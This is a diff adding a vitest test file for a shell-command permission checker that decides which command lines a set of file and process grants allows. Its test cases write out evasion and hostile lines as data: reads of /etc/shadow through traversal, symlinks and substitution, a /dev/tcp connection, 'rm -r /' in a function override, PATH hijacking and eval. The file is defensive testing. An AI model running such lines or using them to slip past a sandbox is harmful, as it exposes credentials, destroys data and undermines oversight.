@@ -1,0 +1,155 @@
+import { describe, expect, it } from 'vitest';
+import { Grants, parseGrants } from '../../src/policy/authority/grants.ts';
+import { shellNeeds } from '../../src/policy/authority/shell-needs.ts';
+import { fileView } from './file-view.ts';
+
+const ROOT = '/work/app';
+const view = fileView(
+  [
+    '/work/app/',
+    '/work/app/src/',
+    '/work/app/src/a',
+    '/work/app/src/b.ts',
+    '/work/app/src/sub/',
+    '/work/app/out/',
+    '/work/b',
+    '/etc/',
+    '/etc/shadow',
+    '/home/me/',
+  ],
+  { '/work/app/src/away': '/etc', '/work/app/src/sh': '/bin/bash', '/work/app/here': '/work/app/src/sub' },
+);
+
+function judge(line: string, allow: readonly string[], deny: readonly string[] = []): string {
+  const { needs, unread } = shellNeeds(line, { cwd: ROOT, home: '/home/me', view });
+  const parsed = parseGrants({ allow, deny });
+  const grants = new Grants(parsed.allow, parsed.deny, ROOT);
+  const refused = needs.filter((need) => !grants.decide(need).allowed);
+  if (refused.length === 0) return 'allowed';
+  return unread === null
+    ? refused
+        .map(({ domain, action, segments }) => `${domain}:${action}:${segments.map(String).join('/')}`)
+        .join(' ')
+    : unread;
+}
+
+const CAT = ['fs:read:src/**', 'process:exec:cat'];
+
+describe('what a line for a shell needs', () => {
+  it.each([
+    'cat src/a',
+    'cat ./src/../src/a',
+    'cat -n src/a src/b.ts',
+    'cat < src/a',
+    'cat src/*.ts',
+    'cat src/a 2>/dev/null',
+    'cat src/a 2>&1 | cat',
+    'cat -- src/a',
+    'cat \'src/a\' "src/b.ts"',
+    'cat src/a && cat src/b.ts || cat src/a; cat src/a &',
+    '(cat src/a)',
+    'if cat src/a; then cat src/b.ts; fi',
+  ])('O4 lets through what the grants cover: %s', (line) => {
+    expect(judge(line, CAT)).toBe('allowed');
+  });
+
+  it.each([
+    ['cat ../b', 'fs:read:work/b'],
+    ['cat /etc/shadow', 'fs:read:etc/shadow'],
+    ['cat src/../../b', 'fs:read:work/b'],
+    ['cat src/away/shadow', 'fs:read:etc/shadow'],
+    ['cat src/*/shadow', 'fs:read:etc/shadow'],
+    ['cat src/away/../b', 'fs:read:b'],
+    ['cat ~/x', 'fs:read:home/me/x'],
+    ['cat < /etc/shadow', 'fs:read:etc/shadow'],
+    ['cat src/a > out/x', 'fs:write:work/app/out/x'],
+    ['cat src/a >> src/a', 'fs:write:work/app/src/a'],
+    ['cat src/a &> src/a', 'fs:write:work/app/src/a'],
+    ['echo $(cat /etc/shadow)', 'fs:read:etc/shadow process:exec:echo'],
+    ['cat src/a "`cat ../b`"', 'the name of a file'],
+    ['cat <(cat ../b)', 'the name of a file'],
+    ['cat src/a; cp src/a out/', 'process:exec:cp fs:write:work/app/out/a'],
+    ['cd .. && cat b', 'process:exec:cd fs:read:work/b'],
+    ['echo x | xargs cat', 'xargs runs what it is told'],
+    ['python3 -c \'open("/etc/shadow")\'', 'python3 runs what it is told'],
+    ["python3.11 -c 'x'", 'python3.11 runs what it is told'],
+    ['src/sh -c "cat /etc/shadow"', 'runs what it is told'],
+    ['PATH=/tmp cat src/a', 'it sets PATH'],
+    ['PATH=/tmp; cat src/a', 'it sets PATH'],
+    ['for PATH in /tmp; do cat src/a; done', 'it sets PATH'],
+    ['$X src/a', 'the name of a program'],
+    ['cat $X', 'the name of a file'],
+    ['cat {src/a,/etc/shadow}', 'the name of a file'],
+    ['cat src/a > $X', 'the target of a redirection'],
+    ['cat src/a > /dev/tcp/1.2.3.4/80', 'opens a connection'],
+    ['cat --files0-from=x src/a', 'is not known'],
+    ['eval "cat src/a"', 'eval runs what it is told'],
+    ['cat src/a; . ./x', '. runs what it is told'],
+    ['cat $((a[$(id)]))', 'only the shell knows'],
+    [`cat "$\{x:=/etc}"`, 'it sets x'],
+    ['cat() { rm -r /; }; cat src/a', 'process:exec:rm'],
+    ['cat "', 'not well formed'],
+    ['cat src/a\nrm src/a', 'process:exec:rm fs:write:work/app/src/a'],
+    ['printf -v PATH /tmp; cat src/a', 'an option of printf'],
+    ['timeout 5 rm src/a', 'process:exec:timeout process:exec:rm fs:write:work/app/src/a'],
+    ['command -p rm src/a', 'what command starts'],
+    ['while cd ..; do cat a; done', 'process:exec:cd'],
+    ['cat $(<../b)', 'the name of a file'],
+    ['cat src/a $(<../b)', 'the name of a file'],
+    ['cat <<X\n$(cat ../b)\nX', 'fs:read:work/b'],
+    ['cat <<<"$(cat ../b)"', 'fs:read:work/b'],
+    [`cat "$\{x:-$(cat ../b)}"`, 'the name of a file'],
+    ['case x in x) cat ../b;; esac', 'fs:read:work/b'],
+    ['until cat ../b; do cat src/a; done', 'fs:read:work/b'],
+    ['! cat ../b', 'fs:read:work/b'],
+    ['time cat ../b', 'fs:read:work/b'],
+    ['coproc cat ../b', 'fs:read:work/b'],
+    ['{ cat src/a; } < ../b', 'fs:read:work/b'],
+    ['cat src/a > >(cat ../b)', 'the target of a redirection'],
+    ['cat .*/b', 'fs:read:work/b'],
+    ['cat src/*/../../../b', 'fs:read:work/b'],
+    ["c'a't ../b", 'fs:read:work/b'],
+    ['\\cat ../b', 'fs:read:work/b'],
+    ['/bin/cat src/a', 'process:exec:/bin/cat'],
+    ['{cat,src/a}', 'the name of a program'],
+    ['cat src/a |& tee ../b', 'process:exec:tee fs:write:work/b'],
+    ['cat ~+/b', 'the name of a file'],
+  ])('O4 does not let through: %s', (line, why) => {
+    expect(judge(line, CAT)).toContain(why);
+  });
+
+  it('looks behind programs that start another', () => {
+    const grants = ['process:exec:timeout', 'process:exec:nohup', 'process:exec:nice', ...CAT];
+    for (const line of ['nohup cat src/a', 'timeout -k 5 10s cat src/a', 'nice -n 5 nohup cat src/a'])
+      expect(judge(line, grants)).toBe('allowed');
+    for (const line of ['nohup cat ../b', 'timeout 5 cat ../b', 'nice -n 5 nohup cat ../b'])
+      expect(judge(line, grants)).toBe('fs:read:work/b');
+    expect(judge('timeout $T cat src/a', grants)).toBe("what timeout starts can't be told");
+  });
+
+  it('goes where the shell goes', () => {
+    const grants = ['process:exec:cd', ...CAT];
+    expect(judge('cd src && cat a', grants)).toBe('allowed');
+    expect(judge('cd src && cd .. && cat src/a', grants)).toBe('allowed');
+    // If there is no such folder, it reads the file in this one.
+    expect(judge('cd src; cat a', grants)).toBe('fs:read:work/app/a');
+    expect(judge('cd nowhere || cat src/a', grants)).toBe('allowed');
+    // By its name, `here/..` is the work tree; by where it leads, it is src.
+    expect(judge('cd here && cd .. && cat a', grants)).toBe('fs:read:work/app/a');
+  });
+
+  it('lets a denial win, also over what can only be guessed', () => {
+    expect(judge('cat src/a', [...CAT, 'process:exec:**'], ['fs:read:src/a'])).toBe('fs:read:work/app/src/a');
+    expect(judge('bash -c x', ['process:exec:**'], [])).toBe('allowed');
+    expect(judge('bash -c x', ['process:exec:**'], ['process:exec:rm'])).toBe('bash runs what it is told');
+    expect(judge('rm -r src', ['process:exec:rm', 'fs:write:**'], ['fs:write:src/keep'])).toBe(
+      'fs:write:work/app/src/Symbol(all below)',
+    );
+  });
+
+  it('names programs whose work is their own', () => {
+    expect(shellNeeds('npm test && cat src/a', { cwd: ROOT, home: '/home/me', view }).ambient).toEqual([
+      'npm',
+    ]);
+  });
+});
